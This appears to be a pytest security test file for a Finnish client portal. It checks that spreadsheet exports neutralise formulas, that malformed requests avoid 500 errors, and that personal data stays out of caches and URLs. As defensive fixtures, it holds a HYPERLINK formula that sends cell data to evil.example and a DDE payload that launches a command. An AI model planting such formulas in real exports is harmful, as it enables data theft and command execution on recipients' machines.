"""Findings of the data-protection review, each with the request an attacker tried: formulas in
exports, malformed requests that answered 500, cacheable pages with personal data."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from portal.app import clock
from portal.app.extensions import db
from portal.models import Client, Group
from portal.reports.exports import spreadsheet_safe
from tests.conftest import Browser, csrf_token

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Avaa")'
PERIOD = {
    "start": (clock.today() - timedelta(days=365)).isoformat(),
    "end": clock.today().isoformat(),
}


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "'+358401234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Espoo", "Espoo"),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_safe_neutralises_formula_starts_only(value, shown):
    assert spreadsheet_safe(value) == shown


def _hostile_municipality(app, world) -> None:
    with app.app_context():
        db.session.get(Client, world.client.id).municipality = FORMULA
        db.session.get(Group, world.group.id).name = "=cmd|' /C calc'!A0"
        db.session.commit()


def test_client_export_carries_no_live_formula(app, world, as_role):
    _hostile_municipality(app, world)
    admin = as_role("admin")
    text = admin.get("/reports/clients.csv", query_string=PERIOD).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    xlsx = admin.get("/reports/clients.xlsx", query_string=PERIOD)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in values)
    assert "'" + FORMULA in [cell.value for cell in values]


def test_funder_report_carries_no_live_formula(app, world, as_role):
    _hostile_municipality(app, world)
    admin = as_role("admin")
    query = {**PERIOD, "group": world.group.id}
    text = admin.get("/reports/funder.csv", query_string=query).get_data(as_text=True)
    assert not any(
        cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(text)) for cell in row
    )
    xlsx = admin.get("/reports/funder.xlsx", query_string=query)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("page", ["/reports/", "/reports/funder", "/reports/funder.csv"])
def test_a_huge_group_number_is_not_a_500(as_role, page):
    response = as_role("admin").get(page, query_string={"group": "9" * 40})
    assert response.status_code in (200, 302, 400, 404)


def test_a_huge_page_or_client_number_is_not_a_500(as_role):
    admin = as_role("admin")
    assert admin.get("/admin/audit", query_string={"client": "9" * 40}).status_code == 200
    assert admin.get("/admin/users", query_string={"page": "-" + "9" * 40}).status_code == 200


def test_a_huge_choice_is_a_form_error(app, world, as_role):
    coach = as_role("coach")
    url = f"/p/assessments/clients/{world.client.id}/request"
    response = coach.post(
        url,
        {"form": "x", "placement": "9" * 40},
        form_url=f"/p/assessments/clients/{world.client.id}",
    )
    assert response.status_code in (200, 400)


@pytest.mark.parametrize("field", ["email", "password"])
def test_a_file_part_instead_of_text_is_400(browser, world, field):
    token = csrf_token(browser.get("/login").get_data(as_text=True))
    data = {"csrf_token": token, "email": world.coach.email, "password": "x" * 12}
    data[field] = (io.BytesIO(b"not text"), "x.txt")
    response = browser.client.post("/login", data=data, content_type="multipart/form-data")
    assert response.status_code == 400
    assert "Pyyntöä ei voitu käsitellä" in response.get_data(as_text=True)


def test_a_file_part_on_a_signed_in_form_is_400_and_stores_nothing(app, world, as_role):
    coach = as_role("coach")
    token = csrf_token(coach.get(f"/clients/{world.client.id}/edit").get_data(as_text=True))
    response = coach.client.post(
        "/clients/new",
        data={"csrf_token": token, "first_name": (io.BytesIO(b"x"), "x.txt"), "last_name": "X"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    with app.app_context():
        assert db.session.query(Client).count() == 2


def test_the_catalog_import_still_takes_its_files(as_role):
    admin = as_role("admin")
    token = csrf_token(admin.get("/p/recognition/import").get_data(as_text=True))
    response = admin.client.post(
        "/p/recognition/import",
        data={"csrf_token": token, "files": (io.BytesIO(b"{}"), "x.json")},
        content_type="multipart/form-data",
    )
    assert response.status_code != 400 or "Choose" not in response.get_data(as_text=True)
    assert response.status_code < 500


@pytest.mark.parametrize("where", ["query", "form"])
def test_a_nul_byte_is_400(browser, where):
    if where == "query":
        response = browser.get("/login", query_string={"next": "/a\x00b"})
    else:
        token = csrf_token(browser.get("/login").get_data(as_text=True))
        response = browser.client.post(
            "/login", data={"csrf_token": token, "email": "a\x00@example.fi", "password": "x"}
        )
    assert response.status_code == 400


def test_every_page_but_static_files_is_no_store(app, browser, as_role):
    for response in (browser.get("/login"), browser.get("/accessibility"), browser.get("/nope")):
        assert response.headers["Cache-Control"] == "no-store"
    assert as_role("coach").get("/").headers["Cache-Control"] == "no-store"
    static = browser.get("/static/polku.css")
    assert static.headers.get("Cache-Control") != "no-store"


def test_secret_link_pages_are_no_store(app, as_role):
    from tests.test_auth import _invite

    path = _invite(app, as_role("admin"))
    visitor = Browser(app.test_client())
    page = visitor.get(path)
    assert page.status_code == 200 and page.headers["Cache-Control"] == "no-store"
    for other in ("/reviews/confirm/unknown", "/p/assessments/a/unknown"):
        assert visitor.get(other).headers["Cache-Control"] == "no-store"


def test_a_search_term_never_goes_into_the_url(app, world, as_role):
    coach = as_role("coach")
    page = coach.get("/clients/").get_data(as_text=True)
    assert '<form method="post" class="search"' in page
    posted = coach.post("/clients/", {"q": "Virtanen"})
    assert posted.status_code == 303 and posted.headers["Location"] == "/clients/"
    listed = coach.get("/clients/").get_data(as_text=True)
    assert "Virtanen" in listed and 'value="Virtanen"' in listed
    assert "q=" not in listed
    old_link = coach.get("/clients/?q=Virtanen")
    assert old_link.status_code == 303 and "Virtanen" not in old_link.headers["Location"]
    admin = as_role("admin")
    for url in ("/admin/users", "/admin/companies"):
        assert admin.post(url, {"q": "Aino"}).headers["Location"] == url


def test_each_list_keeps_its_own_search(as_role):
    admin = as_role("admin")
    admin.post("/admin/users", {"q": "coach@"})
    users = admin.get("/admin/users").get_data(as_text=True)
    companies = admin.get("/admin/companies").get_data(as_text=True)
    assert "coach@example.fi" in users and "employer@example.fi" not in users
    assert "Varasto Oy" in companies and "Kahvila Oy" in companies


def test_the_purpose_of_a_sensitive_read_is_posted(app, world, as_role):
    admin = as_role("admin")
    form = admin.get(f"/clients/{world.client.id}/sensitive").get_data(as_text=True)
    assert '<form method="post">' in form and 'name="purpose"' in form


def test_no_get_form_or_link_carries_personal_data(app, world, as_role):
    """Crawl every page a coach and the admin open: no URL in a link or a GET form carries an
    email, a name of the World's people, or a purpose."""
    import re

    people = ("Aino", "Virtanen", "Eetu", "Korhonen", "Kaisa", "@example.fi")
    from tests.support.browser import forms_on
    from tests.test_fuzz_forms import _pages

    for role in ("coach", "admin", "employer", "client_user"):
        browser = as_role(role)
        for page in _pages(app, world):
            response = browser.get(page)
            if response.status_code != 200 or response.mimetype != "text/html":
                continue
            html = response.get_data(as_text=True)
            urls = re.findall(r'href="([^"]*)"', html) + [
                f.action + "?" + "&".join(f.fields)
                for f in forms_on(html, page)
                if f.method == "GET"
            ]
            for url in urls:
                if url.startswith(("mailto:", "tel:")):
                    continue  # a contact address shown on purpose, never sent to the server
                assert not any(p.lower() in url.lower() for p in people), (role, page, url)
                assert "purpose" not in url and "q=" not in url, (role, page, url)
